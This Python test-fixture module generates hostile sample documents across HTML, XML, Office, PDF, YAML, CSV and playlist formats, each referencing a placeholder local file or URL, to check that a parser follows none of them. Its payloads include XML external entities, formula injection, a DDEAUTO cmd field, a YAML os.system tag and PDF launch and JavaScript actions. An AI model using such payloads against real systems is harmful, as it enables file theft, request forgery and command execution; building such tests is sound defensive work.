"""Documents that point outside: to a file of this machine, to an address. Reading one must follow none of it.

In each, FILE stands for the path of a file whose content must not be read, and URL for an address that must get no connection.
"""

from __future__ import annotations

from mmkg.testing import office_files
from mmkg.testing.hostile_files import R, W, docx
from mmkg.testing.pdf_files import one_page, pdf, stream

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_PIC = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
_WP = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'


def carriers(file: str, url: str) -> dict[str, bytes]:
    """File name -> bytes, with the path and the address filled in. url has no slash at its end; file is absolute."""

    def fill(text: str) -> str:
        return text.replace("FILE", file).replace("URL", url)

    out: dict[str, bytes] = {}
    for name, text in {**_TEXTS, **_HTML}.items():
        out[name] = fill(text).encode()
    for name, (body, relations, parts) in _DOCX.items():
        links = "".join(
            f'<Relationship Id="x{k}" Type="{_REL}{kind}" Target="{fill(target)}" TargetMode="External"/>'
            for k, (kind, target) in enumerate(relations)
        )
        made = {"word/_rels/document.xml.rels": f'<Relationships xmlns="{_PKG}">{links}</Relationships>'}
        made |= {part: fill(data) for part, data in parts.items()}
        out[name] = docx(f"<w:p><w:r><w:t>Carrier {name}</w:t></w:r></w:p>{fill(body)}", made)
    for name, data in _pdfs(file.encode(), url.encode()).items():
        out[name] = data
    return out | _office(file, url)


def _office(file: str, url: str) -> dict[str, bytes]:
    """Slides and sheets whose pictures, media, notes, links, queries and entities lie outside."""
    entity = f"<!DOCTYPE x [<!ENTITY x SYSTEM 'file://{file}'>]>"
    links = {
        "a": ("image", f"{url}/p.png"),
        "b": ("image", f"file://{file}"),
        "c": ("video", f"{url}/v.mp4"),
        "d": ("notesSlide", f"file://{file}"),
        "e": ("image", f"../../../../../..{file}"),
    }
    shapes = office_files.shape("Carrier of links") + "".join(office_files.picture(k, alt="out") for k in "abe")
    outer = office_files.relations(
        {
            "r0": ("worksheet", "worksheets/sheet0.xml"),
            "x": ("externalLink", f"{url}/other.xlsx"),
            "t": ("sharedStrings", f"file://{file}"),
            "u": ("styles", f"../../../..{file}"),
        }
    )
    row = (1, [office_files.cell("A1", "Carrier of links", kind="inlineStr")])
    web = (2, [office_files.cell("A2", None, formula=f'WEBSERVICE("{url}/w")')])
    return {
        "links.pptx": office_files.pptx([shapes], links=links),
        "entity.pptx": office_files.pptx(
            [office_files.shape("Carrier of links")],
            parts={"docProps/core.xml": f"{entity}<cp><title>&x;</title></cp>"},
        ),
        "links.xlsx": office_files.xlsx({"S": [row, web]}, parts={"xl/_rels/workbook.xml.rels": outer}),
        "entity.xlsx": office_files.xlsx(
            {"S": [row]}, parts={"xl/sharedStrings.xml": f"{entity}<sst><si><t>Carrier &x;</t></si></sst>"}
        ),
    }


def _page(head: str, body: str) -> str:
    return f"<!DOCTYPE html><html><head><title>Carrier</title>{head}</head><body><p>Carrier of links.</p>{body}</body></html>"


_HTML = {
    "img.html": _page("", "<img src='URL/img.png' srcset='URL/2x.png 2x'><img src='file://FILE'>"),
    "style.html": _page(
        "<link rel=stylesheet href='URL/a.css'><style>@import 'URL/b.css'; p{background:url(URL/c.png)}</style>", ""
    ),
    "frame.html": _page("", "<iframe src='URL/frame'></iframe><iframe src='file://FILE'></iframe><frame src='URL/f'>"),
    "base.html": _page("<base href='URL/'>", "<img src='relative.png'><a href='x'>x</a>"),
    "refresh.html": _page(
        "<meta http-equiv=refresh content='0;url=URL/next'><link rel=preload href='URL/p' as=fetch>", ""
    ),
    "script.html": _page(
        "<script src='URL/s.js'></script><script>fetch('URL/x')</script>", "<p onclick=\"fetch('URL/y')\">x</p>"
    ),
    "object.html": _page("", "<object data='URL/o'></object><embed src='file://FILE'><applet code='URL/a'></applet>"),
    "media.html": _page(
        "", "<video src='URL/v.mp4' poster='URL/v.png'><source src='URL/s.mp4'><track src='file://FILE'></video>"
    ),
    "svg.html": _page("", "<svg><image href='URL/i.png'/><use href='file://FILE#x'/></svg>"),
    "doctype.html": "<!DOCTYPE html SYSTEM 'file://FILE' [<!ENTITY x SYSTEM 'file://FILE'>]><p>Carrier &x; of links.",
    "form.html": _page(
        "<link rel='dns-prefetch' href='//h.invalid'>", "<form action='URL/f'><input type=image src='URL/b'></form>"
    ),
}
_TEXTS = {
    "picture.svg": "<?xml version='1.0'?><?xml-stylesheet href='URL/s.css'?><svg xmlns='http://www.w3.org/2000/svg' "
    "xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='URL/i.png'/><text>Carrier</text><use xlink:href='file://FILE'/></svg>",
    "entity.xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file://FILE'>]><a><b>Carrier &x;</b></a>",
    "parameter.xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY % p SYSTEM 'URL/p.dtd'> %p;]><a><b>Carrier &x;</b></a>",
    "dtd.xml": "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'URL/a.dtd'><a><b>Carrier</b></a>",
    "filedtd.xml": "<?xml version='1.0'?><!DOCTYPE a PUBLIC '-//x//y' 'file://FILE'><a><b>Carrier &x;</b></a>",
    "include.xml": "<a xmlns:xi='http://www.w3.org/2001/XInclude'><b>Carrier</b><xi:include href='file://FILE' parse='text'/>"
    "<xi:include href='URL/x'/></a>",
    "schema.xml": "<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:a URL/a.xsd'><b>Carrier</b></a>",
    "links.md": "# Carrier\n\n![i](URL/i.png) ![f](file://FILE) [l](URL/l)\n\n<img src='URL/h.png'>\n\n[r]: URL/r 'x'\n\n![r][r]\n",
    "front.md": "---\ntitle: Carrier\ninclude: file://FILE\nimage: URL/x\n---\n\n{{< include FILE >}}\n\n!include FILE\n",
    "notes.rst": "Carrier\n=======\n\n.. include:: FILE\n\n.. image:: URL/i.png\n\n.. raw:: html\n   :url: URL/x\n",
    "paper.tex": "\\documentclass{article}\\begin{document}Carrier \\input{FILE}\\includegraphics{URL/i.png}\\end{document}",
    "list.m3u": "#EXTM3U\n#EXTINF:1,Carrier\nURL/a.mp3\nfile://FILE\nFILE\n#EXT-X-KEY:METHOD=AES-128,URI=\"URL/k\"\n",
    "list.pls": "[playlist]\nFile1=URL/a.mp3\nFile2=FILE\nTitle1=Carrier\nNumberOfEntries=2\n",
    "disc.cue": 'FILE "FILE" WAVE\n  TRACK 01 AUDIO\n    TITLE "Carrier"\n',
    "feed.xspf": "<playlist xmlns='http://xspf.org/ns/0/'><trackList><track><title>Carrier</title><location>URL/a</location></track></trackList></playlist>",
    "hls.txt": "#EXTM3U\n#EXTINF:1,Carrier\n#EXT-X-MAP:URI=\"file://FILE\"\n#EXTINF:10,\nconcat:URL/a|file://FILE\n",
    "short.url": "[InternetShortcut]\nTitle=Carrier\nURL=URL/x\nIconFile=FILE\n",
    "table.csv": "name,value\nCarrier,=WEBSERVICE(\"URL/x\")\nB,\"=HYPERLINK(\"\"file://FILE\"\")\"\n",
    "refs.json": '{"name": "Carrier", "$ref": "file://FILE", "image": {"$ref": "URL/x"}, "@import": "FILE"}',
    "tags.yaml": "name: Carrier\nx: !include FILE\ny: !!python/object/apply:os.system ['touch FILE']\n",
}  # fmt: skip
_FIELD = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
_DOCX: dict[str, tuple[str, tuple[tuple[str, str], ...], dict[str, str]]] = {
    "image.docx": (
        f"<w:p><w:r><w:drawing><wp:inline {_WP}><a:graphic {_A}><a:graphicData><pic:pic {_PIC}><pic:blipFill>"
        "<a:blip r:link='x0' r:embed='x1'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>",
        (("image", "URL/i.png"), ("image", "file://FILE")),
        {},
    ),
    "template.docx": (
        "",
        (("attachedTemplate", "URL/t.dotm"), ("settings", "URL/s.xml"), ("styles", "file://FILE"), ("numbering", "FILE")),
        {
            "word/settings.xml": f"<w:settings {W} {R}><w:attachedTemplate r:id='t'/></w:settings>",
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{_PKG}"><Relationship Id="t" '
            f'Type="{_REL}attachedTemplate" Target="URL/t.dotm" TargetMode="External"/></Relationships>',
        },
    ),
    "link.docx": (
        "<w:p><w:hyperlink r:id='x0'><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id='x1'/><w:subDoc r:id='x2'/>",
        (("hyperlink", "URL/l"), ("aFChunk", "URL/a.html"), ("subDocument", "file://FILE"), ("footnotes", "file://FILE")),
        {},
    ),
    "fields.docx": (
        _FIELD.format('INCLUDETEXT "FILE"') + _FIELD.format('INCLUDEPICTURE "URL/p.png"') + _FIELD.format("DDEAUTO cmd '/c x'"),
        (("oleObject", "file://FILE"), ("video", "URL/v.mp4")),
        {},
    ),
    "entity.docx": (
        "",
        (),
        {"word/footnotes.xml": f"<!DOCTYPE w [<!ENTITY x SYSTEM 'file://FILE'>]><w:footnotes {W}><w:footnote w:id='2'><w:p><w:r>"
         "<w:t>Carrier &x;</w:t></w:r></w:p></w:footnote></w:footnotes>"},
    ),
    "up.docx": (
        "",
        (),
        {"word/_rels/document.xml.rels": f'<Relationships xmlns="{_PKG}"><Relationship Id="u" Type="{_REL}footnotes" '
         'Target="../../../../../..FILE"/></Relationships>'},
    ),
}  # fmt: skip


def _pdfs(file: bytes, url: bytes) -> dict[str, bytes]:
    text = stream(b"BT /F1 12 Tf 72 720 Td (Carrier of links) Tj ET")
    uri = b"<< /S /URI /URI (%s/u) >>" % url
    actions = {
        "uri.pdf": uri,
        "launch.pdf": b"<< /S /Launch /F (%s) /Next %s >>" % (file, uri),
        "remote.pdf": b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F (%s/r.pdf) >> /D [0 /Fit] >>" % url,
        "submit.pdf": b"<< /S /SubmitForm /F << /FS /URL /F (%s/s) >> /Flags 4 >>" % url,
        "import.pdf": b"<< /S /ImportData /F (%s) >>" % file,
        "script.pdf": b"<< /S /JavaScript /JS (app.launchURL\\('%s/j'\\); this.getURL\\('%s/k'\\)) >>" % (url, url),
    }
    out = {}
    for name, action in actions.items():
        objects = {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> >>" % (action, action),
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
            b"/AA << /O %s >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A %s >>] >>"
            % (action, action),
            4: text,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
        out[name] = pdf(objects)
    outside = b"/F << /Type /Filespec /F (%s) /FS /URL >>" % file
    image = b"<< /Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 %s >>\nstream\n\nendstream"
    draw = stream(b"BT /F1 12 Tf 72 720 Td (Carrier of links) Tj ET 99 0 0 99 0 0 cm /I Do")
    out["stream.pdf"] = one_page(draw, resources=b"/XObject << /I 6 0 R >>", more={6: image % outside})
    out["content.pdf"] = one_page(b"<< /Length 0 %s >>\nstream\n\nendstream" % outside)
    reference = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%s) /Page 0 >>" % file
    out["reference.pdf"] = one_page(draw, resources=b"/XObject << /I 6 0 R >>", more={6: stream(b"", reference)})
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><field><value><image href='%s/x'/></value></field></subform></template></xdp:xdp>"
    out["xfa.pdf"] = pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [] >> /URI << /Base (%s/) >> "
            b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (%s) /EF << /F 7 0 R >> >>] >> >> >>"
            % (url, file),
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            4: text,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            6: stream(xfa % url),
            7: stream(b"<html><img src='%s/e.png'></html>" % url, b"/Type /EmbeddedFile"),
        }
    )
    return out
